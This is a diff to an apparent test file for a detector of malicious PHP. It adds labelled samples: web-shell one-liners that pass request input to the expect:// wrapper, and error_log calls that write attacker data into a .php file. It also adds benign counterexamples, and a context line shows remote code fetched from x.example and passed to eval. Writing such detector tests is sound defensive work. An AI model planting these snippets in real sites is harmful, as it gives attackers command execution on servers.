@@ -407,6 +407,10 @@ MALICIOUS = [
         " foreach (array('curl', 'fgc') as $m) { $d = get('https://x.example/p.txt', $m); } eval('?>' . $d);",
         CODE,
     ),
+    ("expect wrapper", "<?php $h = fopen('expect://' . $_GET['c'], 'r'); echo fread($h, 4096);", CMD),
+    ("expect wrapper read whole", "<?php echo file_get_contents(\"expect://{$_POST['c']}\");", CMD),
+    ("error_log into a script", "<?php error_log($_POST['d'], 3, 'cache/x.php');", WRITE),
+    ("error_log to a chosen file", "<?php error_log($_POST['d'], 3, $_POST['f']);", WRITE),
 ]
 
 
@@ -421,6 +425,11 @@ def test_flow_is_found(name: str, code: str, expected: str) -> None:
 
 
 BENIGN = [
+    (
+        "error_log to the site's log",
+        "<?php error_log('login failed for ' . $_POST['user'] . \"\\n\", 3, 'logs/app.log');",
+    ),
+    ("error_log to the server log", "<?php error_log('bad request: ' . $_GET['q']);"),
     (
         "encoded input outside a data: URL",
         "<?php header('Location: /s?q=' . urlencode($_GET['q'])); include 'tpl/' . base64_encode($_GET['p']);",
